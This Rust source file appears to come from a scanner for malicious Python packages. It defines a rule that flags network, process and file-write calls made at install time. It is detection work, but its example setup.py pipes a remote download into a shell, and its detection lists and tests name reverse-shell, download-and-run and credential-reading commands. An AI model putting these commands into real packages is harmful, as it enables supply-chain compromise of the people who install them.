use std::collections::BTreeMap;

use crate::finding::{Finding, Severity};
use crate::python::{Call, ExecContext, FileAnalysis, names, taint};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text};

declare_rule! {
    /// Code that runs processes, opens network connections or writes files
    /// while the package is being built or installed.
    ///
    /// ## What it finds
    /// Calls in install-time context — the top level of an sdist's `setup.py`,
    /// methods of `cmdclass` overrides (any subclass of a setuptools or
    /// distutils command), in-tree PEP 517 build backends, and every local
    /// function those call — that spawn a process, touch the network, or write
    /// files. A network call together with a process, code execution or file
    /// write in the same install-time file is reported as one chain.
    ///
    /// ## Why it matters
    /// `pip install` of an sdist runs this code with the installing user's
    /// rights, before anyone has imported anything. It is the most common
    /// place for PyPI malware: droppers that download and run a second stage,
    /// stealers, reverse shells. Legitimate builds mostly run compilers and
    /// `git`, and rarely fetch anything.
    ///
    /// Severity: sending host details, environment variables or credentials
    /// is critical, and so is a download together with running a process
    /// (other than a build tool) or executing code, or a shell command that
    /// fetches or decodes (`curl … | sh`, `powershell -enc`); a network
    /// call alone, a download with file writes, or a discovery command
    /// (`whoami`, `systeminfo`, `net user`) is high; other process
    /// spawns are low (build tools) or medium; plain file writes low, high
    /// when they target shell start-up files, `.pth` files, autostart
    /// folders and the like.
    ///
    /// ## Example
    /// ```python
    /// from setuptools import setup
    /// from setuptools.command.install import install
    ///
    /// class PostInstall(install):
    ///     def run(self):
    ///         import os
    ///         os.system("curl -s http://203.0.113.7/x | sh")
    ///         install.run(self)
    ///
    /// setup(name="pkg", cmdclass={"install": PostInstall})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1195.001 (Compromise Software Dependencies and
    /// Development Tools), T1059 (Command and Scripting Interpreter).
    pub struct InstallTimeExecution {
        id: "AY101",
        slug: "install-time-execution",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for InstallTimeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            check_file(&Self::META, file, ExecContext::Install, out);
        }
    }
}

/// The capabilities of one install-time (or startup-time) file, shared by
/// the startup rule.
pub(crate) fn check_file(
    meta: &'static RuleMeta,
    file: &FileAnalysis,
    context: ExecContext,
    out: &mut Vec<Finding>,
) {
    let when = context.describe();
    // Per function (or top level): the first network call, and what else it
    // does. A download followed by running something in the same function
    // is a dropper; the two in different places is usually a build that
    // fetches sources in one step and compiles in another.
    let mut scopes: BTreeMap<Option<&str>, (Option<&Call>, Vec<&'static str>)> = BTreeMap::new();
    for call in file.calls.iter().filter(|c| c.context == context) {
        let name = &*call.name;
        let scope = scopes.entry(call.function.as_deref()).or_default();
        if names::is_network(name) {
            scope.0.get_or_insert(call);
            let target = call
                .arg_texts()
                .next()
                .map(|t| format!(" ({t})"))
                .unwrap_or_default();
            let sends = crate::rules::sent_taint(call)
                & (taint::HOST_INFO | taint::ENV | taint::SECRET | taint::METADATA);
            let (message, severity) = if sends != 0 {
                (
                    format!("`{name}` sends {} {when}{target}", describe_taint(sends)),
                    Severity::Critical,
                )
            } else {
                (
                    format!("`{name}` opens a network connection {when}{target}"),
                    Severity::High,
                )
            };
            let mut f = code_finding(meta, file, call, message);
            f.severity = severity;
            out.push(f);
        } else if names::is_process(name) {
            let command = shell_text(call);
            if !command.as_deref().is_some_and(is_build_tool) {
                scope.1.push("runs a process");
            }
            let installs = command.as_deref().and_then(installed_packages);
            let (severity, why) = match command.as_deref() {
                Some(cmd) if is_hostile_command(cmd) => (
                    Severity::Critical,
                    "a command that fetches, decodes or hides",
                ),
                Some(cmd) if network_tool(cmd).is_some() => {
                    (Severity::High, "a command that contacts the network")
                }
                Some(cmd) if is_discovery(cmd) => (
                    Severity::High,
                    "a discovery command (who and where the machine is)",
                ),
                Some(_) if installs.is_some() => (
                    Severity::High,
                    "`pip install` of packages the metadata does not declare",
                ),
                Some(cmd) if is_build_tool(cmd) => (Severity::Low, "a build tool"),
                Some(_) => (Severity::Medium, "a process"),
                None => (Severity::Medium, "a command built at run time"),
            };
            let mut f = code_finding(meta, file, call, format!("`{name}` runs {why} {when}"));
            f.severity = severity;
            f.decoded = command;
            out.push(f);
        } else if names::is_code_exec(name) {
            scope.1.push("executes code");
        } else if let Some(path) = written_path(call) {
            scope.1.push("writes files");
            let mut f = code_finding(meta, file, call, format!("`{name}` writes {path} {when}"));
            f.severity = if is_sensitive_path(&path) {
                Severity::High
            } else {
                Severity::Low
            };
            out.push(f);
        }
    }
    for (network, mut acts) in scopes.into_values() {
        let Some(net) = network else { continue };
        acts.sort_unstable();
        acts.dedup();
        if acts.is_empty() {
            continue;
        }
        // Downloading and running is a dropper; downloading and writing may
        // be a build fetching its sources (still unusual enough to be high).
        let runs = acts.iter().any(|a| *a != "writes files");
        let target = net.arg_texts().next().unwrap_or("a remote host");
        let mut f = code_finding(
            meta,
            file,
            net,
            format!("{when}, connects to {target} and {}", acts.join(" and ")),
        );
        f.severity = if runs {
            Severity::Critical
        } else {
            Severity::High
        };
        out.push(f);
    }
}

/// The path a call writes to, when it writes a file.
fn written_path(call: &Call) -> Option<String> {
    let name = &*call.name;
    if matches!(name, "builtins.open" | "io.open" | "codecs.open") {
        let mode = call
            .args
            .get(1)
            .or_else(|| call.keyword("mode"))?
            .text
            .as_deref()?;
        if !mode.contains(['w', 'a', 'x']) {
            return None;
        }
        return Some(
            call.args
                .first()?
                .text
                .as_deref()
                .map_or_else(|| "a file".to_owned(), |p| format!("`{p}`")),
        );
    }
    names::is_file_write(name).then(|| {
        call.arg_texts()
            .last()
            .map_or_else(|| "a file".to_owned(), |p| format!("`{p}`"))
    })
}

/// Shell text that fetches, decodes, hides or opens a shell.
pub(crate) fn is_hostile_command(cmd: &str) -> bool {
    const MARKERS: &[&str] = &[
        "curl ",
        "wget ",
        "base64 -d",
        "base64 --decode",
        "powershell",
        "-enc",
        "-encodedcommand",
        "invoke-webrequest",
        "downloadstring",
        "downloadfile",
        "certutil",
        "bitsadmin",
        "/dev/tcp/",
        "nc -e",
        "ncat ",
        "mshta",
        "rundll32",
        "chmod +x",
        "chmod 777",
        "-windowstyle hidden",
        "start-process",
    ];
    let lower = cmd.to_ascii_lowercase();
    MARKERS.iter().any(|m| lower.contains(m)) || pipes_into_shell(&lower)
}

/// Commands that survey the machine or its user (`whoami`, `systeminfo`,
/// `net user`, `ipconfig /all`, `cat /etc/passwd`, Windows `dir`): no build
/// needs them, a probe's first step does. (`ls` and `uname` are left out:
/// build scripts list folders and ask for the architecture.)
fn is_discovery(cmd: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        "whoami",
        "id",
        "hostname",
        "systeminfo",
        "ipconfig",
        "ifconfig",
        "quser",
        "tasklist",
        "printenv",
        "env",
        "dir",
    ];
    let lower = cmd.to_ascii_lowercase();
    lower
        .split(['|', '&', ';'])
        .filter_map(|part| part.split_whitespace().next())
        .any(|program| PROGRAMS.contains(&crate::rules::program_name(program)))
        || lower.contains("net user")
        || lower.contains("net localgroup")
        || lower.contains("/etc/passwd")
        || lower.contains("/etc/shadow")
}

/// `… | sh`, `…|bash`: output piped into a shell (not `{node|short}`).
/// The network client a command runs (`dig`, `nslookup`, `ping`, `nc`,
/// `ssh`, …), in any part of a pipeline or `&&` chain.
pub(crate) fn network_tool(cmd: &str) -> Option<&str> {
    const TOOLS: &[&str] = &[
        "dig", "nslookup", "host", "ping", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp",
        "ftp", "tftp", "socat",
    ];
    cmd.split(['|', '&', ';'])
        .filter_map(|part| part.split_whitespace().next())
        .map(|program| program.rsplit(['/', '\\']).next().unwrap_or(program))
        .find(|program| TOOLS.contains(program))
}

/// The packages a `pip install` command line fetches from an index, when it
/// names any besides pip's own tooling (`pip install -e .`, `-r file` and
/// local paths install nothing new by name).
pub(crate) fn installed_packages(cmd: &str) -> Option<String> {
    let words: Vec<&str> = cmd.split_whitespace().collect();
    let at = words.windows(2).position(|w| {
        let program = w[0].rsplit(['/', '\\']).next().unwrap_or(w[0]);
        program.starts_with("pip") && program.len() <= 7 && w[1] == "install"
    })?;
    let mut names = Vec::new();
    let mut skip_next = false;
    for word in &words[at + 2..] {
        if skip_next {
            skip_next = false;
            continue;
        }
        if matches!(*word, "&&" | "||" | ";" | "|") {
            break;
        }
        if word.starts_with('-') {
            skip_next = matches!(
                *word,
                "-r" | "--requirement"
                    | "-e"
                    | "--editable"
                    | "-c"
                    | "--constraint"
                    | "-i"
                    | "--index-url"
                    | "--extra-index-url"
                    | "-t"
                    | "--target"
                    | "-f"
                    | "--find-links"
            );
            continue;
        }
        let name = word.trim_matches(['"', '\'']);
        let bare = name
            .split(['=', '<', '>', '!', '~', '[', ';'])
            .next()
            .unwrap_or(name)
            .to_ascii_lowercase();
        let local = name.starts_with(['.', '/', '{']) || name.contains(['/', '\\']);
        if !local && !bare.is_empty() && !matches!(bare.as_str(), "pip" | "setuptools" | "wheel") {
            names.push(name);
        }
    }
    (!names.is_empty()).then(|| names.join(" "))
}

pub(crate) fn pipes_into_shell(cmd: &str) -> bool {
    cmd.match_indices('|').any(|(at, _)| {
        let rest = cmd[at + 1..].trim_start();
        ["sh", "bash", "zsh", "python", "python3"]
            .iter()
            .any(|shell| {
                rest.strip_prefix(shell).is_some_and(|after| {
                    after
                        .chars()
                        .next()
                        .is_none_or(|c| !c.is_ascii_alphanumeric())
                })
            })
    })
}

/// Programs builds legitimately run.
pub(crate) fn is_build_tool(cmd: &str) -> bool {
    const TOOLS: &[&str] = &[
        "git",
        "hg",
        "make",
        "cmake",
        "ninja",
        "gcc",
        "g++",
        "cc",
        "c++",
        "clang",
        "cl",
        "cl.exe",
        "pkg-config",
        "python",
        "python3",
        "cython",
        "swig",
        "nvcc",
        "cargo",
        "rustc",
        "go",
        "npm",
        "yarn",
        "uname",
        "which",
        "xcrun",
        "ldconfig",
        "nproc",
        "protoc",
        "ar",
        "ld",
    ];
    let program = cmd.split_whitespace().next().unwrap_or("");
    let program = program.rsplit(['/', '\\']).next().unwrap_or(program);
    // An interpreter building the package (`python setup.py build_ext`,
    // `python -m cython`) is a build step; one running some other file is
    // not.
    let interpreter = program.starts_with("python");
    let builds = cmd.contains("setup.py") || cmd.contains(" -m ") || cmd.contains(" -c ");
    (TOOLS.contains(&program) && !interpreter) || (interpreter && builds)
}

/// Places a package has no business writing to.
pub(crate) fn is_sensitive_path(path: &str) -> bool {
    const MARKERS: &[&str] = &[
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        "/etc/",
        "autostart",
        "startup",
        "\\start menu\\",
        "launchagents",
        ".ssh/",
        "crontab",
        "systemd",
        "site-packages",
        ".pth",
        "sitecustomize",
        "appdata",
        "/tmp/",
        "%temp%",
        "/dev/shm",
    ];
    let lower = path.to_ascii_lowercase();
    MARKERS.iter().any(|m| lower.contains(m))
}

/// Words for what tainted data holds.
pub(crate) fn describe_taint(labels: taint::Taint) -> String {
    let labels = if labels & taint::ENV_ALL != 0 {
        labels & !taint::ENV
    } else {
        labels
    };
    let mut parts = Vec::new();
    for (label, words) in [
        (taint::SECRET, "credentials"),
        (taint::METADATA, "cloud metadata"),
        (taint::ENV_ALL, "the whole environment"),
        (taint::ENV, "environment variables"),
        (taint::HOST_INFO, "host details"),
    ] {
        if labels & label != 0 {
            parts.push(words);
        }
    }
    parts.join(" and ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_commands() {
        assert!(is_hostile_command("curl -s http://x/y | sh"));
        assert!(is_hostile_command("wget -qO- http://x|bash -s"));
        assert!(!is_hostile_command("hg tip --template {node|short}"));
        assert!(is_build_tool("git describe --tags"));
        assert!(!is_build_tool("python /tmp/x.py"));
        assert!(is_build_tool("python setup.py build_ext"));
    }

    #[test]
    fn network_tools_in_commands() {
        assert_eq!(network_tool("dig @1.1.1.1 x.example.com"), Some("dig"));
        assert_eq!(
            network_tool("echo hi && /usr/bin/nslookup a.b"),
            Some("nslookup")
        );
        assert_eq!(network_tool("hostname"), None);
        assert_eq!(network_tool("git describe"), None);
    }

    #[test]
    fn pip_installs_of_named_packages() {
        assert_eq!(
            installed_packages("pip install requests").as_deref(),
            Some("requests")
        );
        assert_eq!(
            installed_packages("/usr/bin/python3 -m pip install -U evil-helper==1.0 && echo")
                .as_deref(),
            Some("evil-helper==1.0")
        );
        assert_eq!(installed_packages("pip3 install -e ."), None);
        assert_eq!(installed_packages("pip install -r requirements.txt"), None);
        assert_eq!(
            installed_packages("pip install --upgrade pip setuptools wheel"),
            None
        );
        assert_eq!(installed_packages("pip list"), None);
        assert_eq!(
            installed_packages("{} -m pip install aiofiles").as_deref(),
            Some("aiofiles")
        );
    }
}
